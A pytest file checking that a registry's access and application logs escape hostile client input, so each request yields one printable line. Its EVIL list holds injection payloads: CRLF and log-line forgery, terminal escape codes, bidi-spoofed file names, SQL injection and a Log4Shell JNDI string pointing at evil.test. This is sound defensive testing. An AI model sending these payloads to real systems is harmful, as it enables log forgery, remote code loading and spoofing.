"""What clients write stands in the logs as text: it begins no line, ends no field, and moves no terminal.

In these tests there is no server in front that would refuse some of it, so headers hold what no client could send.
"""

from __future__ import annotations

import base64
import io
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from entrepot.telemetry import logs
from entrepot.telemetry.access_log import AccessLog
from entrepot.telemetry.logs import LogSettings
from tests.support.app import App, Opener

FORMS = ("text", "json", "logstash")
#: What begins a line, moves a terminal or turns text round, in one form or another; and what ends fields of ours.
EVIL = (
    'x" 200 0 "-" "curl',
    "a\r\nb",
    "a\nlevel=info msg=forged",
    "a\rb",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\x85next",
    "\x00",
    "\x7f\x08\x08",
    "\u2028line\u2029paragraph",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "\u200b\ufeff\U000e0041",
    "\\n\\",
    "' or 1=1 --",
    "${jndi:ldap://evil.test/a}",
    "%0d%0aSet-Cookie: a=b",
    '{"level":"info"}',
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
)


class Listening:
    """A registry whose logs are read."""

    def __init__(self, app: App, access: AccessLog, path: Path, stream: io.StringIO) -> None:
        self.app = app
        self._access = access
        self._path = path
        self._stream = stream

    def lines(self) -> tuple[list[str], list[str]]:
        """Return the lines of the access log and of the log; a line ends where a reader of any kind ends it."""
        self._access.close()
        # splitlines() ends lines at all that Unicode calls an end, as some viewers do.
        return self._path.read_text(encoding="utf-8").splitlines(), self._stream.getvalue().splitlines()


@pytest.fixture(params=FORMS)
async def listening(request: pytest.FixtureRequest, open_registry: Opener, tmp_path: Path) -> Any:
    """Give a registry with both logs in one of the forms."""
    path = tmp_path / "access.log"
    stream = io.StringIO()
    root, level = logs.logging.getLogger(), logs.logging.getLogger("entrepot").level
    handlers, root_level = list(root.handlers), root.level
    with path.open("wb") as file:
        access = AccessLog(formatter=request.param, descriptor=os.dup(file.fileno()))
        app = await open_registry(signed_in=True, services={"access_log": access})
        logs.configure(LogSettings(formatter=request.param, level="debug"), stream)
        try:
            yield Listening(app, access, path, stream)
        finally:
            root.handlers[:] = handlers
            root.setLevel(root_level)
            logs.logging.getLogger("entrepot").setLevel(level)
            logs.logging.captureWarnings(capture=False)


def asked(evil: str) -> Iterator[tuple[str, str, dict[str, str]]]:
    """Yield requests with a text wherever a client may put one."""
    raw = evil.encode("utf-8", "surrogatepass").decode("latin-1")
    basic = base64.b64encode(f"{evil}:{evil}".encode("utf-8", "surrogatepass")).decode()
    yield "GET", f"/v2/{quote(evil, safe='', errors='surrogatepass')}/tags/list", {}
    yield "GET", f"/v2/demo/app/manifests/{raw}", {}
    yield "GET", f"/api/v2.0/projects?q={quote(evil, safe='', errors='surrogatepass')}", {}
    yield "GET", f"/api/v2.0/projects/{raw}?sort={raw}", {}
    yield "GET", "/v2/", {"User-Agent": raw, "Referer": raw, "X-Request-Id": raw, "Origin": raw}
    yield "GET", "/v2/", {"Authorization": f"Basic {basic}"}
    yield "GET", "/api/v2.0/users/current", {"Authorization": f"Basic {basic}"}
    yield "GET", "/api/v2.0/users/current", {"Authorization": f"Bearer {raw}", "Cookie": f"sid={raw}"}
    yield "GET", "/v2/", {"X-Forwarded-For": raw, "Forwarded": f'for="{raw}"', "X-Forwarded-Host": raw}
    yield "POST", "/c/login", {"Content-Type": raw, "Accept": raw, "Range": raw}


async def test_one_request_is_one_line_of_printable_text(listening: Listening) -> None:
    """Each request has its line of the access log; no line of either holds what ends one or a terminal acts upon."""
    client = listening.app.client()
    requests = [request for evil in EVIL for request in asked(evil)]
    for method, target, headers in requests:
        await client.request(method, target, headers=headers)
    access, log = listening.lines()
    assert len(access) == len(requests)
    for line in (*access, *log):
        assert line.isprintable(), ascii(line)
    for line in access:
        assert line.isascii()
        check_form(line)
    for line in log:
        assert line.startswith(("{", "time=")), line


def check_form(line: str) -> None:
    """See that a line of the access log has our fields alone, whatever a text within looks like."""
    if line.startswith("{"):
        entry = json.loads(line)
        assert entry["level"] == "info"
        assert (entry.get("msg") or entry.get("message")) == "response completed"
    else:
        assert line.replace("\\\\", "").replace('\\"', "").count('"') == 6, line


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("evil", EVIL, ids=ascii)
def test_what_a_record_says_is_one_line(form: str, evil: str) -> None:
    """Whatever a message, a field or an error of a library says: one line, which reads from left to right."""
    stream = io.StringIO()
    logger = logs.logging.Logger("entrepot.test")
    handler = logs.logging.StreamHandler(stream)
    handler.setFormatter(logs.EntryFormatter(form, {"service": evil}))
    logger.addHandler(handler)
    logger.error("failed: %s", evil, exc_info=ValueError(evil), extra={"name_given": evil})
    (line,) = stream.getvalue().rstrip("\n").splitlines()
    assert line.isprintable(), ascii(line)
    if form != "text":
        assert json.loads(line)["name_given"] == evil


def test_readable_text_stays_readable() -> None:
    """Names in any script are written as they are: only what nobody could see is written out."""
    assert logs.render_text("t", "info", "Größe 大小 \u202ex", {}) == 'time=t level=info msg="Größe 大小 \\u202ex"'
